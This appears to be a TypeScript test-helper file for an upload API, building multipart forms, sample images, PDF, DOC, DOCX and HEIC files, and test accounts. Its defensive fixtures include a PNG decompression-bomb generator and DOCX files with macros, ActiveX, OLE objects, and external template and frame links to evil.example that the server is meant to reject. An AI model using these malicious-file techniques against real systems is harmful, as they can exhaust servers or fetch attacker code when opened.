// Uploads for any suite (first written for the application and moderation tests): a server with a files directory,
// multipart bodies, sample files (pictures with EXIF and GPS, PDF, DOC) and accounts in each role.
import assert from 'node:assert/strict';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import type { TestContext } from 'node:test';
import { eq } from 'drizzle-orm';
import type { FastifyInstance } from 'fastify';
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import { buildApiServer, type ApiServerConfig } from '../app.ts';
import { users } from '../db/schema.ts';
import { resolvePrivateFilesDir } from '../files/local-storage.ts';
import type { ApiSuite } from './helpers.ts';
import { signIn, TEST_AUTH } from './auth.ts';

export interface ServerWithFiles {
  app: FastifyInstance;
  filesDir: string;
  privateDir: string;
}

/** The suite's API with its own files directories, removed when the test ends. */
export async function buildWithFiles(
  t: TestContext,
  suite: ApiSuite,
  options: Pick<ApiServerConfig, 'now' | 'auth' | 'rateLimits'> = {},
): Promise<ServerWithFiles> {
  const filesDir = await mkdtemp(path.join(os.tmpdir(), 'povar-upload-test-'));
  const privateDir = resolvePrivateFilesDir(filesDir);
  const app = await buildApiServer({ db: suite.database, filesDir, auth: TEST_AUTH, ...options });
  t.after(async () => {
    await app.close();
    await rm(filesDir, { recursive: true, force: true });
    await rm(privateDir, { recursive: true, force: true });
  });
  return { app, filesDir, privateDir };
}

export interface FormFile {
  field: string;
  filename: string;
  contentType?: string;
  data: Buffer;
}

/** A multipart/form-data body as a browser sends it. */
export function multipart(fields: Record<string, string>, files: FormFile[] = []): { payload: Buffer; headers: Record<string, string> } {
  const boundary = `----povar-test-${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`));
  }
  for (const file of files) {
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field}"; filename="${file.filename}"\r\n` +
          `Content-Type: ${file.contentType ?? 'application/octet-stream'}\r\n\r\n`,
      ),
      file.data,
      Buffer.from('\r\n'),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

export const bearer = (accessToken: string) => ({ authorization: `Bearer ${accessToken}` });

/** POSTs a form with one file to an /api/profiles upload route. */
export function uploadTo(
  app: FastifyInstance,
  route: string,
  accessToken: string,
  file: Omit<FormFile, 'field'> & { field?: string },
  fields: Record<string, string> = {},
) {
  const body = multipart(fields, [{ field: 'file', ...file }]);
  return app.inject({ method: 'POST', url: `/api/profiles/${route}`, headers: { ...body.headers, ...bearer(accessToken) }, payload: body.payload });
}

/** A photo-like JPEG with an EXIF orientation (6: turn 90° clockwise to view) and a GPS position. */
export async function jpegWithExif(width = 400, height = 300): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: '#c0392b' } })
    .composite([{ input: { create: { width: Math.round(width / 4), height, channels: 3, background: '#2c3e50' } }, left: 0, top: 0 }])
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'TestPhone', Model: 'Secret Model' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '57/1 9/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '65/1 32/1 0/1' },
    })
    .toBuffer();
}

export const png = (width = 64, height = 48) =>
  sharp({ create: { width, height, channels: 4, background: '#3498db80' } })
    .png()
    .toBuffer();
export const webp = (width = 64, height = 64) =>
  sharp({ create: { width, height, channels: 3, background: '#27ae60' } })
    .webp()
    .toBuffer();
export const gif = () =>
  sharp({ create: { width: 8, height: 8, channels: 3, background: '#000' } })
    .gif()
    .toBuffer();

/**
 * A decompression bomb: a valid PNG header announcing width × height pixels, with a few
 * compressed rows of zeros behind it. Anything that decodes before checking the size drowns.
 */
/** A PNG chunk: length, type, data, CRC. */
export function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const checksum = Buffer.alloc(4);
  checksum.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, checksum]);
}

export function pngBomb(width = 50_000, height = 50_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.writeUInt8(8, 8); // bit depth
  header.writeUInt8(0, 9); // greyscale
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(width + 1))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The smallest PDF a viewer shows: a catalog, its page tree and one blank page (a PDF with no page is refused). */
export const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
);

/** The start of an OLE2 compound file whose directory names streams (Word: 'WordDocument'; Excel: 'Workbook'). */
export function compoundFile(...streamNames: string[]): Buffer {
  const file = Buffer.alloc(4096);
  Buffer.from('d0cf11e0a1b11ae1', 'hex').copy(file, 0);
  file.writeUInt16LE(0x003e, 0x18);
  file.writeUInt16LE(0x0003, 0x1a);
  file.writeUInt16LE(0xfffe, 0x1c);
  file.writeUInt16LE(9, 0x1e);
  Buffer.from('Root Entry\0', 'utf16le').copy(file, 1024);
  streamNames.forEach((name, index) => {
    Buffer.from(`${name}\0`, 'utf16le').copy(file, 1024 + 128 * (index + 1));
  });
  return file;
}
export const DOC = compoundFile('WordDocument');

/** Signs a new account in by SMS code and gives it a role; its id, phone and tokens. */
export async function signInAs(app: FastifyInstance, suite: ApiSuite, role: 'customer' | 'cook' | 'operator' = 'customer') {
  const { phone, tokens } = await signIn(app, () => new Date());
  const byPhone = eq(users.phone, phone);
  const orm = suite.database.orm;
  const [user] =
    role === 'customer'
      ? await orm.select().from(users).where(byPhone)
      : await orm
          .update(users)
          .set(role === 'operator' ? { role: 'operator' } : { isCook: true })
          .where(byPhone)
          .returning();
  assert.ok(user);
  return { id: user.id, phone, accessToken: tokens.accessToken };
}

const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const MACRO_MAIN = 'application/vnd.ms-word.document.macroEnabled.main+xml';

/**
 * A Word 2007+ file as Word writes its skeleton: content types, the package and document
 * relationships, and the document part. `extra` adds parts (a macro project, an ActiveX control),
 * `documentRelationships` adds relationships of the document part (an outside template, a link).
 */
export function docx(options: { mainType?: string; extra?: Record<string, string>; documentRelationships?: string } = {}): Buffer {
  const text = (value: string) => strToU8(value);
  const files: Record<string, Uint8Array> = {
    '[Content_Types].xml': text(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
        `<Override PartName="/word/document.xml" ContentType="${options.mainType ?? WORD_MAIN}"/></Types>`,
    ),
    '_rels/.rels': text(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ),
    'word/_rels/document.xml.rels': text(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        `${options.documentRelationships ?? ''}</Relationships>`,
    ),
    'word/document.xml': text(
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
        '<w:body><w:p><w:r><w:t>Медицинская книжка</w:t></w:r></w:p></w:body></w:document>',
    ),
  };
  for (const [name, value] of Object.entries(options.extra ?? {})) files[name] = text(value);
  return Buffer.from(zipSync(files));
}

export const DOCX = docx();

/** DOCX files that run or fetch something when opened: each must be refused as active content. */
export function activeWordXmlDocuments(): { filename: string; contentType: string; data: Buffer }[] {
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
  return [
    {
      filename: 'macros.docm',
      contentType: 'application/vnd.ms-word.document.macroEnabled.12',
      data: docx({ mainType: MACRO_MAIN, extra: { 'word/vbaProject.bin': 'Attribute VB_Name' } }),
    },
    { filename: 'renamed-docm.docx', contentType: type, data: docx({ mainType: MACRO_MAIN }) },
    { filename: 'vba.docx', contentType: type, data: docx({ extra: { 'word/vbaProject.bin': 'Attribute VB_Name' } }) },
    { filename: 'activex.docx', contentType: type, data: docx({ extra: { 'word/activeX/activeX1.xml': '<ax:ocx/>' } }) },
    { filename: 'ole.docx', contentType: type, data: docx({ extra: { 'word/embeddings/oleObject1.bin': 'MZ' } }) },
    {
      filename: 'remote-template.docx',
      contentType: type,
      data: docx({
        extra: {
          'word/_rels/settings.xml.rels':
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        },
      }),
    },
    {
      filename: 'remote-frame.docx',
      contentType: type,
      data: docx({
        documentRelationships:
          '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://evil.example/x.sct" TargetMode="External"/>',
      }),
    },
  ];
}

/** Zips that are not Word documents: a plain archive, a spreadsheet, a Word file missing its document part. */
export function notWordXml(): { filename: string; contentType: string; data: Buffer }[] {
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
  const sheet = docx({ mainType: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml' });
  const noBody = Buffer.from(
    zipSync({ '[Content_Types].xml': strToU8(`<Types><Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/></Types>`) }),
  );
  return [
    { filename: 'archive.docx', contentType: type, data: Buffer.from(zipSync({ 'readme.txt': strToU8('hello') })) },
    { filename: 'sheet.docx', contentType: type, data: sheet },
    { filename: 'no-body.docx', contentType: type, data: noBody },
  ];
}

/**
 * A 40 × 30 HEIC photo (HEVC in a HEIF container, as an iPhone writes it), encoded once with
 * libheif's heif-enc from a plain red PNG: no encoder for HEVC runs in Node, so the bytes are here.
 */
export const HEIC = Buffer.from(
  'AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAa1tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAAAAAAAA5waXRtAAAAAAACAAAAEGlkYXQAAAAAACgAHgAAADhpbG9jAQAAAERAAAIAAQAAAAAAAAHRAAEAAAAAAAAAKgACAAEAAAAAAAAAAQAAAAAAAAAIAAAAOGlpbmYAAAAAAAIAAAAVaW5mZQIAAAEAAQAAaHZjMQAAAAAVaW5mZQIAAAAAAgAAZ3JpZAAAAADYaXBycAAAALZpcGNvAAAAdmh2Y0MBA3AAAAAAAAAAAAAe8AD8/fj4AAAPAyAAAQAYQAEMAf//A3AAAAMAkAAAAwAAAwAeugJAIQABACpCAQEDcAAAAwCQAAADAAADAB6gIIEFluqumubgQEDAgAAAAwCAAAADAIQiAAEABkQBwXPBiQAAABRpc3BlAAAAAAAAAEAAAABAAAAAFGlzcGUAAAAAAAAAKAAAAB4AAAAQcGl4aQAAAAADCAgIAAAAGmlwbWEAAAAAAAAAAgABAoECAAICA4QAAAAaaXJlZgAAAAAAAAAOZGltZwACAAEAAQAAADJtZGF0AAAAJigBrxkhXkJA712lv/8+w/1z1/bVt8pkoKaXBNeImQsDgYCNkZ04',
  'base64',
);
